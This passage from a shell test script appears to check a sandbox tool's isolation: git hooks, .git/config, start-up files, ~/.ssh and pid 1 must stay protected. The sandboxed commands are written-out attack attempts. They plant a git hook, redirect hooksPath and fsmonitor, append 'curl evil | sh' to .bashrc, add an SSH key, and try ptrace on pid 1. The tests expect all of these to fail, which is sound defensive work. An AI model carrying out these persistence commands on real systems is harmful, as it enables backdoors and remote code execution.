  (cd "$REPO" && "$SB" "$@" -- sh -c '
    printf "#!/bin/sh\ntouch /tmp/pwned\n" > .git/hooks/post-checkout 2>/dev/null && echo hook-planted
    chmod +x .git/hooks/pre-commit 2>/dev/null; printf "[core]\n\thooksPath = /tmp\n\tfsmonitor = evil\n" >> .git/config 2>/dev/null && echo config-rewritten
    mv .git/config .git/config.old 2>/dev/null && echo config-moved
    touch .git/objects/ok && echo objects-writable') >"$TMP/out" 2>/dev/null
  expect_eq "$how: git hooks and .git/config stay read-only, the rest of .git is writable" \
    "objects-writable" "$(cat "$TMP/out")"
  rm -f "$REPO/.git/objects/ok"
  expect_eq "$how: the repository's hooks and config are unchanged on the host" "$before" "$(snapshot "$REPO")"
  before=$(snapshot "$TMP/fakehome")
  (cd "$TMP/fakehome" && HOME="$TMP/fakehome" "$SB" "$@" -- sh -c '
    echo "curl evil | sh" >> .bashrc 2>/dev/null && echo bashrc-appended
    echo "ssh-ed25519 EVIL" >> .ssh/authorized_keys 2>/dev/null && echo key-added
    mkdir -p .config/autostart 2>/dev/null; touch made-here && echo home-writable') >"$TMP/out" 2>/dev/null
  rm -f "$TMP/fakehome/made-here"
  rmdir "$TMP/fakehome/.config/autostart" 2>/dev/null
  expect_eq "$how, run from \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
  expect_eq "$how, run from \$HOME: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
done

# The same through the access options: --write of the home (from
# elsewhere), --home on a directory that holds start-up files. They are
# binds like the profile's: the protect lines still apply over them.
before=$(snapshot "$TMP/fakehome")
(cd "$TMP" && HOME="$TMP/fakehome" "$SB" --write "$TMP/fakehome" -- sh -c '
  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
  echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
rm -f "$TMP/fakehome/made-here"
expect_eq "--write \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
expect_eq "--write \$HOME: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
mkdir -p "$TMP/elsewhere"
(cd "$TMP/elsewhere" && HOME="$TMP/nohome" "$SB" --home "$TMP/fakehome" -- sh -c '
  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
rm -f "$TMP/fakehome/made-here"
expect_eq "--home DIR: DIR's start-up files stay read-only" "home-writable" "$(cat "$TMP/out")"
expect_eq "--home DIR: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"

# The sandbox's own pid 1 keeps nothing of set-up the command could reopen
# through /proc/1/fd. (It stays dumpable, as bwrap's: callers join the
# sandbox through /proc/PID/ns.) The default profile refuses ptrace of
# pid 1: a stopped pid 1 would hang the sandbox.
cat > "$TMP/pid1.py" <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH
print("attach", "OK" if r == 0 else os.strerror(ctypes.get_errno()))
n = 0
for fd in range(3, 16):
    try:
        os.close(os.open("/proc/1/fd/%d" % fd, os.O_RDWR))
        n += 1
    except OSError:
        pass
print("reopened", n)
PY
if command -v python3 >/dev/null; then
  run_sb --profile default --bind "$TMP" "$TMP" -- python3 "$TMP/pid1.py"
  expect_match "default: the command cannot ptrace-stop its pid 1" "^attach Operation not permitted" "$OUT"
  expect_match "default: the command cannot reopen pid 1's fds" "^reopened 0$" "$OUT"
else
  skip "python3 not installed"
fi

done_testing
